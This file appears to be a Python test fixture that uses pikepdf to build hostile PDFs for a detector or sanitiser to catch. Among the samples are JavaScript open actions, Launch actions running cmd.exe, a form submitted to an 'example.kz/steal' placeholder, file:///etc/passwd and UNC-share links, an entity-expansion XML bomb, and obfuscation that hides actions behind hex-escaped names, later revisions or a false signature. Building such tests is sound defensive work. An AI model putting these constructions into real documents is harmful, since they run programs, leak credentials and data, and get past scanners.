"""PDFs that run, send, open or carry something."""

from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.hostile.made import CATALOG, PAGE, PAGES, pdf, raw_pdf, stream

JS = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
Change = Callable[[pikepdf.Pdf], None]


def at_opening(action: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action

    return change


def in_root(**keys: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.Root[f"/{key}"] = value

    return change


def in_page(**keys: Any) -> Change:
    def change(made: pikepdf.Pdf) -> None:
        for key, value in keys.items():
            made.pages[0].obj[f"/{key}"] = value

    return change


def noted(**keys: Any) -> Change:
    """A note on the page; by default a link."""

    def change(made: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9])
        for key, value in keys.items():
            note[f"/{key}"] = value
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return change


def pressed(kind: str, **more: Any) -> Change:
    return noted(A=Dictionary(S=Name(f"/{kind}"), **more))


def linked(address: str) -> Change:
    return pressed("URI", URI=address)


def field(**keys: Any) -> Change:
    """A field of a form."""

    def change(made: pikepdf.Pdf) -> None:
        one = made.make_indirect(Dictionary(FT=Name.Tx, T="a", **keys))
        made.Root.AcroForm = Dictionary(Fields=[one])

    return change


def attached(made: pikepdf.Pdf) -> None:
    made.attachments["a.txt"] = b"hidden"


def loose(made: pikepdf.Pdf) -> None:
    """In an object that nothing points at: a reader that rebuilds the file finds it."""
    made.Root.Private = made.make_indirect(Dictionary(Kept=Array([Array([JS])])))


def outlined(made: pikepdf.Pdf) -> None:
    with made.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("a", action=JS))


def described() -> bytes:
    swells = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    words = stream(swells, b"/Type /Metadata /Subtype /XML")
    root = CATALOG.replace(b">>", b"/Metadata 4 0 R >>")
    return raw_pdf(words, first=(root, PAGES, PAGE))


def elsewhere(made: pikepdf.Pdf) -> None:
    content = made.make_stream(b"")
    content.F = "http://example.kz/page"
    made.pages[0].Contents = content


def postscript(made: pikepdf.Pdf) -> None:
    program = made.make_stream(b"systemdict /run get")
    program.Type, program.Subtype = Name.XObject, Name.PS
    made.pages[0].Resources = Dictionary(XObject=Dictionary(A=program))


def later_version() -> bytes:
    """An honest PDF, and behind it a version with a program."""
    honest = raw_pdf()
    start = honest.rindex(b"startxref") + len("startxref\n")
    table = honest[start:].split()[0]
    place = len(honest)
    added = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (a) >> >>\n"
    added += b"endobj\n"
    where = place + len(added)
    added += b"xref\n1 1\n%010d 00000 n \n" % place
    added += b"trailer\n<< /Size 4 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        where,
    )
    return honest + added


def under_a_signature() -> bytes:
    """A program in the first version, and a second that looks signed so that its bytes are kept."""
    root = CATALOG.replace(b">>", b"/OpenAction << /S /JavaScript /JS (a) >> >>")
    first = raw_pdf(first=(root, PAGES, PAGE))
    table = first[first.rindex(b"startxref") + len("startxref\n") :].split()[0]
    catalog = len(first)
    added = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Perms 4 0 R >>\nendobj\n"
    signature = len(first) + len(added)
    added += b"4 0 obj\n<< /Type /Sig /ByteRange [0 100 120 50] /Contents <00> >>\nendobj\n"
    where = len(first) + len(added)
    added += b"xref\n1 1\n%010d 00000 n \n4 1\n%010d 00000 n \n" % (catalog, signature)
    added += b"trailer\n<< /Size 5 /Root 1 0 R /Prev %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        table,
        where,
    )
    return first + added


def spelled() -> bytes:
    """The name of the action written in its other way."""
    opens = b"/OpenAction << /S /J#61vaScript /#4a#53 (app.alert) >> >>"
    root = CATALOG.replace(b">>", opens)
    return raw_pdf(first=(root, PAGES, PAGE))


SOUND = Dictionary(Type=Name.Sound, R=8000)
FILE = Dictionary(Type=Name.Filespec, F="a.exe", UF="a.exe")
CHANGES: dict[str, Change] = {
    "program at opening": at_opening(JS),
    "launch at opening": at_opening(Dictionary(S=Name.Launch, F="cmd.exe")),
    "address at opening": at_opening(Dictionary(S=Name.URI, URI="http://example.kz/seen")),
    "other file at opening": at_opening(Dictionary(S=Name.GoToR, F="//example.kz/share/a.pdf")),
    "form sent at opening": at_opening(Dictionary(S=Name.SubmitForm, F="http://example.kz")),
    "print at opening": at_opening(Dictionary(S=Name.Named, N=Name.Print)),
    "program after a turn": at_opening(Dictionary(S=Name.GoTo, D=[0], Next=JS)),
    "program in a row of turns": at_opening(Dictionary(S=Name.GoTo, D=[0], Next=Array([JS]))),
    "program at closing": in_root(AA=Dictionary(WC=JS)),
    "program at a page": in_page(AA=Dictionary(O=JS)),
    "program in a note": noted(A=JS),
    "program in a note's life": noted(AA=Dictionary(E=JS)),
    "program at a link's pointer": noted(PA=JS),
    "program among the names": in_root(Names=Dictionary(JavaScript=Dictionary(Names=["a", JS]))),
    "program in the outline": outlined,
    "program in a field": field(AA=Dictionary(K=JS)),
    "program in a field's key": field(A=JS),
    "program in a loose object": loose,
    "program in a stream's words": in_root(Private=Dictionary(Deep=[[Dictionary(JS="a")]])),
    "launch": pressed("Launch", F="cmd.exe"),
    "launch on Windows": pressed("Launch", Win=Dictionary(F="cmd.exe", P="/c calc")),
    "form sent": pressed("SubmitForm", F="http://example.kz/steal"),
    "form emptied": pressed("ResetForm"),
    "data taken in": pressed("ImportData", F="a.fdf"),
    "other file": pressed("GoToR", F="//example.kz/share/a.pdf", D=[0]),
    "file inside": pressed("GoToE", D=[0], T=Dictionary(R=Name.C)),
    "film by action": pressed("Movie"),
    "sound by action": pressed("Sound", Sound=SOUND),
    "media by action": pressed("Rendition", OP=0),
    "rich media by action": pressed("RichMediaExecute"),
    "view in space": pressed("GoTo3DView"),
    "layers switched": pressed("SetOCGState", State=[]),
    "notes hidden": pressed("Hide", T="a"),
    "thread followed": pressed("Thread", D=0, F="a.pdf"),
    "link to a disk": linked("file:///etc/passwd"),
    "link with a program": linked("javascript:alert(1)"),
    "link with a split program": linked("java\nscript:alert(1)"),
    "link with a page inside": linked("data:text/html,<b>a</b>"),
    "link to a share": linked("\\\\example.kz\\share"),
    "link to a share by search": linked("search-ms:query=a&crumb=location:example.kz"),
    "base of links on a disk": in_root(URI=Dictionary(Base="file:///")),
    "film": noted(Subtype=Name.Movie),
    "sound": noted(Subtype=Name.Sound),
    "screen": noted(Subtype=Name.Screen),
    "rich media": noted(Subtype=Name.RichMedia),
    "body in space": noted(Subtype=Name("/3D")),
    "file pinned to the page": noted(Subtype=Name.FileAttachment, FS=FILE),
    "file attached": attached,
    "file attached to the whole": in_root(AF=Array([FILE])),
    "file at an address": in_root(Private=Dictionary(Type=Name.Filespec, FS=Name.URL, F="http://a")),
    "files among the names": in_root(Names=Dictionary(EmbeddedFiles=Dictionary(Names=[]))),
    "folder of files": in_root(Collection=Dictionary(Type=Name.Collection)),
    "form in XML": in_root(AcroForm=Dictionary(Fields=[], XFA="<xdp/>")),
    "page that lies elsewhere": elsewhere,
    "program of a printer": postscript,
}  # fmt: skip
ACTIVE_PDFS: dict[str, Callable[[], bytes]] = {
    **{name: (lambda change=change: pdf(change)) for name, change in CHANGES.items()},
    "program in a packed object": lambda: pdf(
        at_opening(JS), object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "words that swell": described,
    "program in another spelling": spelled,
    "program in a later version": later_version,
    "program under a false signature": under_a_signature,
    "closed with a password": lambda: pdf(
        encryption=pikepdf.Encryption(user="secret", owner="secret")
    ),
    "closed to changes": lambda: pdf(encryption=pikepdf.Encryption(user="", owner="secret")),
    "program in an object nobody names": lambda: raw_pdf(stream(b"a", b"/JS (app.alert)")),
}
